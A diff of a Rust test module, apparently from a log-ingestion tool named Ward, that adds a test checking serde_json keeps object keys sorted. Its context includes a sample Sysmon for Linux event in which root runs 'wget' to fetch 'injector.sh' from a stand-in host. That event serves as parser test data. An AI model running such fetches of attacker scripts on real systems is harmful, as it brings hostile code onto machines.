@@ -572,6 +572,14 @@ pub(crate) mod tests {
 
     pub(crate) const LINUX_LINE: &str = r#"Nov 24 08:30:01 ip-172-31-60-25 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2022-11-24T08:30:01.467399000Z"/><EventRecordID>75097</EventRecordID><Correlation/><Execution ProcessID="1109" ThreadID="1109"/><Channel>Linux-Sysmon/Operational</Channel><Computer>ip-172-31-60-25</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2022-11-24 08:30:01.467</Data><Data Name="ProcessGuid">{c9eb4a87-2b89-637f-700c-0807f5550000}</Data><Data Name="ProcessId">3372</Data><Data Name="Image">/usr/bin/wget</Data><Data Name="CommandLine">wget http://203.0.113.7/injector.sh</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentProcessId">3371</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">bash</Data></EventData></Event>"#;
 
+    /// A dependency that turns on serde_json's `preserve_order` (evtx 0.8.3 and later
+    /// do) changes every JSON text Ward writes and the SHA-256 record keys the feeds
+    /// compute from it: a file imported before an upgrade would be stored again.
+    #[test]
+    fn json_objects_keep_sorted_keys() {
+        assert_eq!(serde_json::json!({"b": 1, "a": 2}).to_string(), r#"{"a":2,"b":1}"#);
+    }
+
     #[test]
     fn a_sysmon_for_linux_syslog_line_is_a_linux_event() {
         let text = format!("Nov 24 08:30:00 ip-172-31-60-25 CRON[1]: (root) CMD (true)\n{LINUX_LINE}\n");
